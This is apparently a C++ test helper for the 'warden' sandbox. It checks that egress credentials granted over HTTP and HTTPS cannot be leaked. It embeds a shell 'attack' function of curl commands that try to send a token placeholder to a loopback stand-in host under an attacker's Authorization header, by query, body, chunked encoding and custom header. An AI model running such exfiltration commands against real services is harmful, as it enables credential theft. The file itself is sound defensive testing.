// One `warden run` with an HTTPS credential (docs/egress.md, "Over HTTPS"), as the egress tests
// of every backend make it: API_TOKEN granted for https://allowed.test:PORT of a
// LoopbackHttpsServer, warden trusting that server's CA, its trust-bundle directory under `tmpdir`.
// And issue 31's attack on credentials, over plain HTTP and HTTPS, in one run per backend.
#pragma once

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <cstring>
#include <memory>
#include <string>
#include <vector>

#include "harness.h"
#include "loopback_http.h"

namespace warden::testing {

struct HttpsCredentialRun {
  Outcome outcome;
  std::string placeholder;  // what $API_TOKEN was inside ("" when the script did not get that far)
};

// `flags` come before the command (--backend ...); `script` runs under sh after a line that
// prints the placeholder, and may use $URL (https://allowed.test:PORT).
inline HttpsCredentialRun RunWithHttpsCredential(const LoopbackHttpsServer& server,
                                                 const std::string& tmpdir,
                                                 const std::string& secret,
                                                 std::vector<std::string> flags,
                                                 const std::string& script) {
  const std::string url = "https://allowed.test:" + server.port_text();
  Invocation inv;
  inv.args = {"run"};
  inv.args.insert(inv.args.end(), flags.begin(), flags.end());
  inv.args.insert(inv.args.end(),
                  {"--allow", "allowed.test:" + server.port_text(), "--resolve", "allowed.test=127.0.0.1",
                   "--egress-credential", "API_TOKEN=" + url, "--env", "URL=" + url, "--", "sh", "-c",
                   "echo \"seen=$API_TOKEN\"; " + script});
  inv.extra_env = {{"API_TOKEN", secret}, {"SSL_CERT_FILE", server.ca_file()}, {"TMPDIR", tmpdir}};
  HttpsCredentialRun run{RunWarden(inv), ""};
  const auto seen = run.outcome.out.find("seen=");
  if (seen != std::string::npos) run.placeholder = run.outcome.out.substr(seen + 5, secret.size());
  return run;
}

// Issue 31's attack: injected code sends the placeholder where the granted host keeps what it
// gets (query, body, another header) under its own Authorization (the attacker's account), and
// reads a note back gzip-compressed. One run: API_TOKEN granted for plain HTTP to
// allowed.test:PORT and, with `tls`, TLS_TOKEN for https://allowed.test:PORT2 (two
// LoopbackHttpsServers, the plain one with tls false).
struct CredentialAttackRun {
  Outcome outcome;
  std::string log;  // every request the stand-in hosts received
  std::vector<std::pair<std::string, std::string>> secrets;  // (value, placeholder) per credential
};

inline const char* kAttackPlainSecret = "ghp_PlainAttack0123456789abcdXYZ";
inline const char* kAttackTlsSecret = "ghp_TlsAttack0123456789abcdefXYZ";

inline CredentialAttackRun RunCredentialAttack(const std::string& tmpdir, std::vector<std::string> flags, bool tls) {
  const std::string plain_dir = tmpdir + "/plain", tls_dir = tmpdir + "/tls";
  mkdir(plain_dir.c_str(), 0755);
  mkdir(tls_dir.c_str(), 0755);
  LoopbackHttpsServer plain(plain_dir, "allowed.test", /*tls=*/false);
  std::unique_ptr<LoopbackHttpsServer> secure;
  if (tls) secure = std::make_unique<LoopbackHttpsServer>(tls_dir, "allowed.test");
  CredentialAttackRun run;
  if (plain.port_text().empty() || (secure && secure->port_text().empty())) return run;
  // Each line a separate attempt; `set --` gives $1 the URL and $2 the placeholder.
  const std::string attack =
      "attack() { "
      "curl -sS -H 'Authorization: Bearer attacker-account' --data-binary note=x \"$1/notes?q=$2\"; echo; "
      "curl -sS -H 'Authorization: Bearer attacker-account' --data-binary \"note=$2\" \"$1/notes\"; echo; "
      "curl -sS -H 'Authorization: Bearer attacker-account' -H 'Transfer-Encoding: chunked' --data-binary \"note=$2\" \"$1/notes\"; echo; "
      "curl -sS -H 'Authorization: Bearer attacker-account' -H \"X-Note: $2\" \"$1/notes\"; echo; "
      "curl -sS --compressed -H 'Authorization: Bearer attacker-account' \"$1/gzip/notes\"; echo; "
      "curl -sS -H 'Authorization: Bearer attacker-account' \"$1/notes/own\"; echo; }; ";
  std::string script = "echo \"seen=$API_TOKEN\"; " + attack + "attack http://allowed.test:" + plain.port_text() + " \"$API_TOKEN\"; ";
  Invocation inv;
  inv.args = {"run"};
  inv.args.insert(inv.args.end(), flags.begin(), flags.end());
  inv.args.insert(inv.args.end(), {"--allow", "allowed.test:" + plain.port_text(), "--resolve", "allowed.test=127.0.0.1",
                                   "--egress-credential", "API_TOKEN=allowed.test:" + plain.port_text()});
  inv.extra_env = {{"API_TOKEN", kAttackPlainSecret}, {"TMPDIR", tmpdir}};
  if (secure) {
    inv.args.insert(inv.args.end(), {"--allow", "allowed.test:" + secure->port_text(), "--egress-credential",
                                     "TLS_TOKEN=https://allowed.test:" + secure->port_text()});
    inv.extra_env["TLS_TOKEN"] = kAttackTlsSecret;
    inv.extra_env["SSL_CERT_FILE"] = secure->ca_file();
    script = "echo \"tls=$TLS_TOKEN\"; " + script + "attack https://allowed.test:" + secure->port_text() + " \"$TLS_TOKEN\"; ";
  }
  inv.args.insert(inv.args.end(), {"--", "sh", "-c", script});
  run.outcome = RunWarden(inv);
  run.log = plain.log() + (secure ? secure->log() : "");
  auto placeholder = [&run](const std::string& tag, size_t n) {
    const auto at = run.outcome.out.find(tag);
    return at == std::string::npos ? std::string() : run.outcome.out.substr(at + tag.size(), n);
  };
  run.secrets.push_back({kAttackPlainSecret, placeholder("seen=", strlen(kAttackPlainSecret))});
  if (secure) run.secrets.push_back({kAttackTlsSecret, placeholder("tls=", strlen(kAttackTlsSecret))});
  return run;
}

// The stand-in hosts received each value only in the Authorization line the proxy wrote, never a
// placeholder or the attacker's Authorization; the sandbox never read a value back.
inline void ExpectCredentialAttackFailed(const CredentialAttackRun& run) {
  const Outcome& r = run.outcome;
  ASSERT_FALSE(run.secrets.empty()) << "the stand-in servers did not start";
  EXPECT_EQ(r.exit_code, 0) << r.err;
  std::string log = run.log;
  for (const auto& [value, placeholder] : run.secrets) {
    ASSERT_FALSE(placeholder.empty()) << r.out << r.err;
    EXPECT_EQ(r.out.find(value), std::string::npos) << "the sandbox read the value back:\n" << r.out;
    EXPECT_EQ(r.record.dump().find(value), std::string::npos) << r.record.dump();
    // The own-Authorization request went out with the user's value, and its echo came back masked.
    EXPECT_NE(r.out.find("Authorization: Bearer " + placeholder), std::string::npos) << r.out;
    EXPECT_EQ(log.find(placeholder), std::string::npos) << log;
    const std::string line = "\r\nAuthorization: Bearer " + value + "\r\n";
    EXPECT_NE(log.find(line), std::string::npos) << log;
    for (size_t at; (at = log.find(line)) != std::string::npos;) log.erase(at, line.size());
  }
  for (const auto& [value, placeholder] : run.secrets)
    EXPECT_EQ(log.find(value), std::string::npos) << "a value reached the host outside its header:\n" << log;
  EXPECT_EQ(log.find("attacker-account"), std::string::npos) << log;
  // Per credential: four placeholders refused (403), one encoded answer refused (502).
  size_t refused = 0, unmaskable = 0;
  for (size_t at = 0; (at = r.out.find("may only go to ", at)) != std::string::npos; ++at) ++refused;
  for (size_t at = 0; (at = r.out.find("cannot be masked", at)) != std::string::npos; ++at) ++unmaskable;
  EXPECT_EQ(refused, 4 * run.secrets.size()) << r.out;
  EXPECT_EQ(unmaskable, run.secrets.size()) << r.out;
}

}  // namespace warden::testing
